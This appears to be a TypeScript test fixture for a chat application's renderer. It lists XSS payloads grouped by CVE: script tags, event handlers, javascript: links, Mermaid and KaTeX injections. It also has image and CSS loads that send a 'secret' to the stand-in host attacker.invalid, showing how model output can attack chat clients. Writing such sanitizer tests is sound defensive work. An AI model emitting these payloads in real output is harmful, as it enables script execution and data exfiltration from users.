/**
 * What has run code or called out through rendered text elsewhere, by the incident it comes from (see each name). The
 * trap is `window.__pwned`; the address that must never be asked for is `attacker.invalid`.
 */
const script = 'window.__pwned=1'
const away = 'https://attacker.invalid/leak?q=secret'

/** Incident or class → texts that a model, a title or a provider's error may hold. */
export const payloads: Record<string, string[]> = {
  'CVE-2026-32626, HTML while streaming': [
    `<script>${script}</script>`,
    `<img src=x onerror="${script}">`,
    `<svg onload="${script}"><circle r=1></svg>`,
    `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
    `<details open ontoggle="${script}">x</details>`,
    `<body onload="${script}">`,
    `<math><mtext><img src=x onerror="${script}"></mtext></math>`,
    `<a href="javascript:${script}">click</a>`,
    `<object data="${away}"></object><embed src="${away}">`,
    `<form action="javascript:${script}"><button autofocus>go</button></form>`,
  ],
  'CVE-2026-109288, CVE-2026-109291, CVE-2026-108852, schemes in links': [
    `[click](javascript:${script})`,
    `[click](JaVaScRiPt:${script})`,
    `[click](&#106;avascript:${script})`,
    `[click](java\nscript:${script})`,
    `[click](data:text/html,<script>${script}</script>)`,
    `[click](vbscript:msgbox)`,
    `<javascript:${script}>`,
    `[click][ref]\n\n[ref]: javascript:${script}`,
    `[click](file:///etc/passwd) [click](chatty://x) [click](app://chatty/x)`,
  ],
  'CVE-2025-32711 EchoLeak, images and other loads': [
    `![a](${away}&i=1)`,
    `![a][img]\n\n[img]: ${away}&i=2`,
    `[![a](${away}&i=3)](${away})`,
    `<img src="${away}&i=4" srcset="${away}&i=5 2x">`,
    `<video poster="${away}&i=6"><source src="${away}&i=7"></video>`,
    `<style>@import url("${away}&i=8"); body { background: url(${away}&i=9) }</style>`,
    `<link rel=prefetch href="${away}&i=10"><link rel=icon href="${away}&i=11">`,
    `<div style="background-image:url(${away}&i=12)">x</div>`,
  ],
  'CVE-2025-59417, GHSA-m79r-r765-5f9j, CVE-2025-58768, CVE-2025-66222, CVE-2025-66481, SVG and Mermaid': [
    '```svg\n<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>window.__pwned=1</script></svg>\n```',
    '```mermaid\ngraph TD\nA["<img src=x onerror=window.__pwned=1>"] --> B\nclick A href "javascript:window.__pwned=1"\n```',
    '```mermaid\nclassDiagram\nclassDef x fill:url(https://attacker.invalid/m)\n```',
    '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\nA["<svg onload=window.__pwned=1>"]\n```',
    '```html\n<script>window.__pwned=1</script>\n```',
  ],
  'CVE-2025-23207, KaTeX': [
    `$\\href{javascript:${script}}{x}$`,
    '$\\htmlData{onclick=window.__pwned=1}{x}$',
    `$\\includegraphics{${away}&k=1}$`,
    '$\\htmlStyle{background:url(https://attacker.invalid/k)}{x}$',
    '$$\\def\\x{\\x\\x}\\x$$',
    '$\\url{javascript:window.__pwned=1}$',
  ],
  'CVE-2026-109300, forged markup of the application': [
    '<article aria-label="Answer"><button>Retry</button></article>',
    '<chatty-answer onclick="window.__pwned=1">',
    '[^1]: <img src=x onerror=window.__pwned=1>\n\ntext[^1]',
    '| a | b |\n|---|---|\n| <img src=x onerror=window.__pwned=1> | [x](javascript:window.__pwned=1) |',
    '- [ ] <input autofocus onfocus=window.__pwned=1>',
    '# <img src=x onerror=window.__pwned=1>',
  ],
}
